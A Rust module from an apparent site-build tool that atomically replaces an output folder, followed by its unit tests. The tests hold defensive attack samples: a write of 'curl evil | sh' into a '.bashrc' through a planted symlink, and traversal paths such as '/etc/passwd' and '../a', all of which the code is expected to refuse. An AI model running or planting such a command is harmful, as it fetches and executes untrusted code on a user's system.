//! The output of one build.

use std::collections::{BTreeSet, HashSet};
use std::fs;
use std::mem;
use std::path::{Component, Path, PathBuf};
use std::sync::atomic::Ordering;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::SystemTime;

use crate::error::{Error, ForeignFiles};
use crate::files::{ContentHash, OutputFile, OutputFiles};
use crate::foreign::ForeignPaths;
use crate::manifest;
use crate::previous::PreviousOutput;
use crate::signature::FileSignature;
use crate::stage::{Changes, Published, Stage};

/// Receives the files of a build, from any thread and in any order, and replaces the output folder with them.
///
/// Paths are relative to the output folder, with forward slashes. The new files are prepared in a hidden folder. Until
/// [`finish`](Self::finish), readers see the old ones; an `Output` that is dropped leaves them as they are.
#[derive(Debug)]
pub struct Output {
    previous: PreviousOutput,
    stage: Stage,
    foreign: ForeignPaths,
    new: Mutex<NewFiles>,
}

/// The files that the build has written so far.
#[derive(Debug, Default)]
struct NewFiles {
    files: OutputFiles,
    /// Paths of files that differ from those of the previous build.
    written: HashSet<String>,
    /// Folders that exist.
    folders: HashSet<PathBuf>,
    /// Foreign files and folders at the paths of new files.
    obstacles: BTreeSet<PathBuf>,
}

/// The result of a build.
#[derive(Debug)]
#[non_exhaustive]
pub struct Finished {
    /// All files of the output, for [`PreviousOutput::compare`] of the next build.
    pub files: OutputFiles,
    /// Number of files that differ from those in the output folder. The manifest is one of them if the set of paths
    /// differs.
    pub changed: usize,
    /// Work that remains once readers see the new files.
    pub published: Published,
}

impl Output {
    /// Prepares new files for an output folder.
    ///
    /// # Errors
    ///
    /// When no folder can be created beside or within the output folder.
    pub fn new(mut previous: PreviousOutput) -> Result<Self, Error> {
        let stage = Stage::new(&mut previous)?;
        let foreign = ForeignPaths::new(&previous.foreign);
        Ok(Self { previous, stage, foreign, new: Mutex::default() })
    }

    /// Writes a file.
    ///
    /// The manifest's own path is reserved: [`finish`](Self::finish) replaces a file that is written there.
    ///
    /// # Errors
    ///
    /// When the path is not below the output folder, or the file cannot be written. If the path belongs to a file that
    /// no build has written, [`finish`](Self::finish) reports it together with all others.
    pub fn write(&self, path: &str, bytes: &[u8]) -> Result<(), Error> {
        self.write_copy(path, bytes, None)
    }

    /// Writes a copy of a file. If neither the original nor the copy has changed since the previous build, neither is
    /// read.
    ///
    /// # Errors
    ///
    /// When `from` cannot be read, and as [`write`](Self::write) does.
    pub fn copy(&self, path: &str, from: &Path) -> Result<(), Error> {
        let now = SystemTime::now();
        let signature = FileSignature::read(from).filter(|signature| signature.is_settled(now));
        let unchanged = self.previous.unchanged.get(path);
        let previous = unchanged.and_then(|unchanged| unchanged.file.source);
        if signature.is_some() && signature == previous && self.keep(&[path]) {
            return Ok(());
        }
        let bytes = fs::read(from).map_err(Error::file("read", from))?;
        self.write_copy(path, &bytes, signature)
    }

    /// Keeps files of the previous build, all or none. Returns `false` if one of them is missing or was changed since:
    /// then the caller writes them all.
    pub fn keep(&self, paths: &[&str]) -> bool {
        let unchanged: Option<Vec<_>> =
            paths.iter().map(|path| self.previous.unchanged.get(*path)).collect();
        let Some(unchanged) = unchanged else { return false };
        for unchanged in unchanged {
            unchanged.is_kept.store(true, Ordering::Relaxed);
        }
        true
    }

    /// Keeps all files of the previous build that are as it wrote them.
    pub fn keep_all(&self) {
        for unchanged in self.previous.unchanged.values() {
            unchanged.is_kept.store(true, Ordering::Relaxed);
        }
    }

    /// Reads a file as the previous build wrote it; `None` if it is missing or was changed since.
    pub fn previous(&self, path: &str) -> Option<Vec<u8>> {
        self.previous.unchanged.get(path)?;
        self.previous.root.as_ref()?.folder.read_below(Path::new(path)).ok()
    }

    /// Reads a file of this build, written or kept; `None` if there is none.
    pub fn current(&self, path: &str) -> Option<Vec<u8>> {
        let (is_written, is_new) = {
            let new = self.lock();
            (new.written.contains(path), new.files.contains(path))
        };
        if is_written {
            return self.stage.read(path);
        }
        let is_kept = || {
            let unchanged = self.previous.unchanged.get(path);
            unchanged.is_some_and(|unchanged| unchanged.is_kept.load(Ordering::Relaxed))
        };
        if is_new || is_kept() { self.previous(path) } else { None }
    }

    /// Returns the paths of all files below a folder that are as the previous build wrote them, in no order. The empty
    /// path is the output folder.
    pub fn previous_paths(&self, folder: &str) -> Vec<String> {
        let prefix = if folder.is_empty() { String::new() } else { format!("{folder}/") };
        let paths = self.previous.unchanged.keys();
        paths.filter(|path| path.starts_with(&prefix)).cloned().collect()
    }

    /// Replaces the files of the output folder. Files of builds that were neither written nor kept are removed.
    ///
    /// # Errors
    ///
    /// [`Error::ForeignFiles`] if new files have the paths of files that no build has written, unless both have the same
    /// bytes; other errors if the operating system refuses an operation. The old files stay as they are, except if the
    /// entries of the folder had to be exchanged one by one: then the next build replaces them all.
    pub fn finish(mut self) -> Result<Finished, Error> {
        self.check_obstacles()?;
        self.write_manifest()?;
        let Self { mut previous, stage, foreign, new } = self;
        let NewFiles { files: new, written, .. } =
            new.into_inner().unwrap_or_else(PoisonError::into_inner);
        let mut files = OutputFiles::default();
        files.0.reserve(previous.unchanged.len() + new.len());
        let mut removed = mem::take(&mut previous.outdated);
        for (path, unchanged) in mem::take(&mut previous.unchanged) {
            match unchanged.is_kept.into_inner() {
                true => drop(files.0.insert(path, unchanged.file)),
                false => removed.push(path),
            }
        }
        files.0.extend(new.0);
        removed.retain(|path| !files.contains(path));
        stage.remove(&removed)?;
        let changed = if previous.is_spare { files.len() } else { written.len() + removed.len() };
        let removed: HashSet<String> = removed.into_iter().collect();
        let changes = Changes { written, removed };
        let published = stage.publish(previous, changes, &files, &|path| foreign.contains(path))?;
        Ok(Finished { files, changed, published })
    }

    /// Reports all foreign files at the paths of new ones.
    fn check_obstacles(&mut self) -> Result<(), Error> {
        let new = self.new.get_mut().unwrap_or_else(PoisonError::into_inner);
        let paths: Vec<PathBuf> = mem::take(&mut new.obstacles).into_iter().collect();
        match paths.is_empty() {
            true => Ok(()),
            false => {
                let folder = self.previous.target.path.clone();
                Err(Error::ForeignFiles(ForeignFiles { folder, paths }))
            }
        }
    }

    /// Writes the list of all files of the new output, including itself.
    fn write_manifest(&self) -> Result<(), Error> {
        let name = self.previous.target.options.manifest;
        let bytes = {
            let new = self.lock();
            let unchanged = self.previous.unchanged.iter();
            let kept = unchanged
                .filter(|(_, file)| file.is_kept.load(Ordering::Relaxed))
                .map(|(path, _)| path.as_str());
            manifest::to_bytes(kept.chain(new.files.paths()).chain([name]))
        };
        self.write_copy(name, &bytes, None)
    }

    fn lock(&self) -> MutexGuard<'_, NewFiles> {
        self.new.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn write_copy(
        &self,
        path: &str,
        bytes: &[u8],
        source: Option<FileSignature>,
    ) -> Result<(), Error> {
        check_path(path)?;
        let content = ContentHash::new(bytes);
        let unchanged = self.previous.unchanged.get(path).map(|unchanged| &unchanged.file);
        if let Some(file) = unchanged.filter(|file| file.content == content) {
            let file = OutputFile { source, ..file.clone() };
            self.lock().files.0.insert(path.to_owned(), file);
            return Ok(());
        }
        if let Some(obstacle) = self.foreign.obstacle(Path::new(path))
            && !self.is_same(obstacle, path, bytes)
        {
            self.lock().obstacles.insert(obstacle.to_owned());
            return Ok(());
        }
        if let Some(folder) = Path::new(path).parent()
            && !self.lock().folders.contains(folder)
        {
            self.stage.make_folder(folder)?;
            self.lock().folders.insert(folder.to_owned());
        }
        let metadata = self.stage.write(path, bytes)?;
        let signature = FileSignature::from_metadata(&metadata);
        let mut new = self.lock();
        new.files.0.insert(path.to_owned(), OutputFile { content, signature, source });
        new.written.insert(path.to_owned());
        Ok(())
    }

    /// Returns whether a foreign file equals the new one at its path, such as a `CNAME` that was put into the output
    /// before it was put among the sources. Such a file is replaced and counts as the build's from then on.
    fn is_same(&self, foreign: &Path, path: &str, bytes: &[u8]) -> bool {
        let root = self.previous.root.as_ref();
        let read = || root.and_then(|root| root.folder.read_below(foreign).ok());
        foreign == Path::new(path)
            && self.foreign.contains(foreign)
            && read().is_some_and(|theirs| theirs == bytes)
    }
}

/// Checks that a path does not lead out of the output folder.
fn check_path(path: &str) -> Result<(), Error> {
    let mut components = Path::new(path).components().peekable();
    let is_below = components.peek().is_some()
        && components.all(|component| matches!(component, Component::Normal(_)));
    match is_below {
        true => Ok(()),
        false => Err(Error::InvalidPath(path.to_owned())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{DirSnapshot, Marker, OutputOptions, Target};

    const MARKER: Marker =
        Marker { file: ".marker", is_valid: |bytes| bytes == b"ours", bytes: || b"ours".to_vec() };

    const OPTIONS: OutputOptions = OutputOptions { marker: Some(MARKER), ..OutputOptions::new() };

    fn previous(target: &Path, known: &OutputFiles) -> Result<PreviousOutput, Error> {
        let target = Target::find(target)?.with_options(OPTIONS);
        match known.is_empty() {
            true => PreviousOutput::new(target),
            false => Ok(PreviousOutput::compare(DirSnapshot::new(target)?, known.clone())),
        }
    }

    fn over(target: &Path, known: &OutputFiles) -> Result<Output, Error> {
        Output::new(previous(target, known)?)
    }

    fn is_as_written(target: &Path, known: &OutputFiles) -> bool {
        previous(target, known).expect("the folder is ours").is_as_written()
    }

    fn write(output: &Output, files: &[(&str, &str)]) {
        output.write(MARKER.file, &(MARKER.bytes)()).expect("the folder is ours");
        for (path, text) in files {
            output.write(path, text.as_bytes()).expect("the folder is ours");
        }
    }

    fn count(folder: &Path) -> usize {
        fs::read_dir(folder).expect("the folder is there").count()
    }

    #[test]
    fn a_build_that_is_dropped_leaves_the_target_as_it_was() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        drop(second);

        assert_eq!(fs::read(target.join("index.html")).expect("the first build stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_build_replaces_the_one_before_it_whole() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        for name in ["old.html", "new.html"] {
            let output = over(&target, &OutputFiles::default()).expect("free, or a build");
            write(&output, &[(name, "text")]);
            let finished = output.finish().expect("the folder is ours");
            finished.published.settle().expect("the folder is ours");
        }
        assert!(!target.join("old.html").exists());
        assert!(target.join("new.html").exists());
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn only_what_differs_is_written() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a/same.html", "same"), ("a/new.html", "old"), ("b/gone.html", "")]);
        let known = first.finish().expect("the folder is ours").files;
        assert!(is_as_written(&target, &known));
        let same = FileSignature::read(&target.join("a/same.html"));
        fs::write(target.join("stray.txt"), "somebody's").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/same.html", "same"), ("a/new.html", "new")]);
        assert_eq!(second.current("a/same.html").as_deref(), Some(&b"same"[..]));
        assert_eq!(second.current("a/new.html").as_deref(), Some(&b"new"[..]));
        assert_eq!(second.current("b/gone.html"), None);
        let finished = second.finish().expect("the folder is ours");
        finished.published.settle().expect("the folder is ours");

        assert_eq!(finished.changed, 3, "one file is new, one is gone, and the manifest says so");
        assert_eq!(FileSignature::read(&target.join("a/same.html")), same);
        assert_eq!(fs::read(target.join("a/new.html")).expect("it is there"), b"new");
        assert!(!target.join("b").exists());
        assert_eq!(fs::read(target.join("stray.txt")).expect("it stays"), b"somebody's");
        assert!(is_as_written(&target, &finished.files));
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_file_that_was_touched_is_written_again() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "ours"), ("b.html", "ours")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::write(target.join("a.html"), "theirs").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep(&["a.html"]) && second.keep(&["b.html"]));
        write(&second, &[("a.html", "ours")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a.html")).expect("it is there"), b"ours");
    }

    #[test]
    fn a_folder_with_other_things_is_refused() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        fs::write(folder.path().join("thesis.txt"), "years of work").expect("the folder is ours");
        let refused = over(folder.path(), &OutputFiles::default());
        assert!(matches!(refused, Err(Error::ForeignFolder(_))));
    }

    #[test]
    fn several_files_are_kept_all_or_none() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "a"), ("a.json", "a")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::remove_file(target.join("a.json")).expect("it is there");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep(&["a.html", "a.json"]));
        write(&second, &[]);
        let files = second.finish().expect("the folder is ours").files;
        assert!(!files.contains("a.html"), "a file was kept whose other half is gone");
        assert!(!target.join("a.html").exists());
    }

    #[test]
    fn a_file_takes_the_place_of_a_folder_and_a_folder_that_of_a_file() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a", "file"), ("b/c.html", "in a folder")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/d.html", "in a folder"), ("b", "file")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a/d.html")).expect("it is there"), b"in a folder");
        assert_eq!(fs::read(target.join("b")).expect("it is there"), b"file");
    }

    /// Adds files that no build has written to the target, and returns their paths.
    fn add_foreign(target: &Path) -> [&'static str; 4] {
        let paths = ["CNAME", ".git/objects/ab", "guide/notes.txt", "a/deep/er.txt"];
        for path in paths {
            let file = target.join(path);
            fs::create_dir_all(file.parent().expect("a file has a folder")).expect("ours");
            fs::write(file, path).expect("the folder is ours");
        }
        fs::create_dir(target.join("empty")).expect("the folder is ours");
        paths
    }

    fn assert_foreign(target: &Path, paths: &[&str]) {
        for path in paths {
            let text = fs::read_to_string(target.join(path));
            assert_eq!(text.expect("it stays"), *path);
        }
        assert!(target.join("empty").is_dir());
    }

    #[test]
    fn what_no_build_has_written_stays_with_and_without_knowledge_of_the_previous_build() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("guide/a.html", "one"), ("guide/gone.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let foreign = add_foreign(&target);
        assert!(is_as_written(&target, &known), "foreign files change nothing");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("guide/a.html", "two")]);
        second.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/gone.html").exists());

        let third = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&third, &[("index.html", "three")]);
        third.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/a.html").exists(), "the manifest says that a build wrote it");
    }

    #[test]
    fn all_foreign_files_in_the_way_are_named_and_nothing_changes() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        let added = add_foreign(&target);

        let second = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&second, &[("CNAME/x.html", ""), ("guide/notes.txt", "ours"), ("a/deep", "file")]);
        write(&second, &[("a/deep/er.txt", "a/deep/er.txt")]);
        let refused = second.finish().expect_err("files are in the way");
        let Error::ForeignFiles(foreign) = refused else { panic!("{refused}") };
        assert_eq!(foreign.paths, ["CNAME", "a/deep", "guide/notes.txt"].map(PathBuf::from));
        assert_foreign(&target, &added);
        assert_eq!(fs::read(target.join("index.html")).expect("it stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_foreign_file_with_the_same_bytes_becomes_the_build_s() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        fs::write(target.join("CNAME"), "docs.example.com").expect("the folder is ours");
        for files in [vec![("CNAME", "docs.example.com")], vec![]] {
            let output = over(&target, &OutputFiles::default()).expect("the folder is a build");
            write(&output, &files);
            output.finish().expect("nothing is in the way");
            assert_eq!(target.join("CNAME").exists(), !files.is_empty());
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_planted_link_is_neither_followed_nor_lost() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, elsewhere) = (folder.path().join("build"), folder.path().join("elsewhere"));
        fs::create_dir(&elsewhere).expect("the folder is ours");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        std::os::unix::fs::symlink("../elsewhere", target.join("a")).expect("the folder is ours");

        let second = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        second.finish().expect("nothing is in the way");
        assert_eq!(fs::read_link(target.join("a")).expect("it stays"), Path::new("../elsewhere"));

        let third = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&third, &[("a/.bashrc", "curl evil | sh")]);
        assert!(matches!(third.finish(), Err(Error::ForeignFiles(_))));
        assert_eq!(count(&elsewhere), 0);
    }

    #[test]
    fn an_old_folder_becomes_the_new_one_without_being_written_to() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, spare) = (folder.path().join("build"), folder.path().join("spare"));
        let mut known = OutputFiles::default();
        for round in 0..5_u32 {
            let found = Target::find(&target).expect("free, or a build").with_options(OPTIONS);
            let snapshot = DirSnapshot::new(found.with_spare(spare.clone())).expect("it is ours");
            let previous = PreviousOutput::compare(snapshot, known);
            let output = Output::new(previous).expect("it is ours");
            let text = format!("round {round}");
            let own = format!("{round}/own.html");
            write(&output, &[("same.html", "same"), ("new.html", &text), (&own, "")]);
            let finished = output.finish().expect("the folder is ours");
            known = finished.files;
            finished.published.settle().expect("the folder is ours");
            assert!(is_as_written(&target, &known));
            assert_eq!(fs::read_to_string(target.join("new.html")).expect("there"), text);
            // The spare copy is complete until the next build uses it.
            let copied = fs::read_to_string(spare.join("new.html")).expect("the copy is there");
            assert_eq!(copied, text);
            assert!(spare.join(&own).exists());
            assert_eq!(count(&target), 5, "two files, one folder, marker and manifest");
        }
        assert_eq!(count(folder.path()), 2);
    }

    #[test]
    fn a_file_that_somebody_adds_during_a_build_is_in_the_new_output() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a/index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/index.html", "two")]);
        for path in ["upload.txt", "a/upload.txt"] {
            fs::write(target.join(path), path).expect("the folder is ours");
        }
        fs::create_dir(target.join("uploads")).expect("the folder is ours");
        second.finish().expect("the folder is ours");
        for path in ["upload.txt", "a/upload.txt"] {
            assert_eq!(fs::read_to_string(target.join(path)).expect("it stays"), path);
        }
        assert!(target.join("uploads").is_dir());
        assert_eq!(fs::read(target.join("a/index.html")).expect("it is there"), b"two");
    }

    #[test]
    fn paths_out_of_the_folder_are_refused() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let output = over(&folder.path().join("build"), &OutputFiles::default()).expect("free");
        for path in ["", ".", "/etc/passwd", "../a", "a/../../b"] {
            let refused = output.write(path, b"");
            assert!(matches!(refused, Err(Error::InvalidPath(_))), "{path}");
        }
        output.write("a/..b/.c", b"").expect("the path is below the folder");
    }

    #[test]
    fn without_a_marker_the_manifest_marks_a_folder() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let over = || Output::new(PreviousOutput::new(Target::find(&target).expect("free"))?);
        for text in ["one", "two"] {
            let output = over().expect("free, or a build");
            output.write("index.html", text.as_bytes()).expect("the folder is ours");
            output.finish().expect("the folder is ours");
            assert_eq!(fs::read_to_string(target.join("index.html")).expect("there"), text);
        }
        fs::write(target.join(OutputOptions::new().manifest), "{}").expect("the folder is ours");
        assert!(matches!(over(), Err(Error::ForeignFolder(_))));
    }

    #[test]
    fn a_copy_is_kept_while_neither_file_changes() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, source) = (folder.path().join("build"), folder.path().join("source"));
        fs::write(&source, "one").expect("the folder is ours");
        let old = SystemTime::now() - std::time::Duration::from_secs(60);
        let set_old = |file: fs::File| file.set_modified(old).expect("the file is ours");
        set_old(fs::File::options().write(true).open(&source).expect("it is there"));
        let mut known = OutputFiles::default();
        for (text, changed) in [("one", 3), ("one", 0), ("other", 1)] {
            if text == "other" {
                fs::write(&source, text).expect("the folder is ours");
            }
            let output = over(&target, &known).expect("free, or a build");
            output.copy("copy", &source).expect("the source is there");
            write(&output, &[]);
            let finished = output.finish().expect("the folder is ours");
            assert_eq!(finished.changed, changed, "{text}");
            assert_eq!(fs::read_to_string(target.join("copy")).expect("there"), text);
            known = finished.files;
        }
    }
}
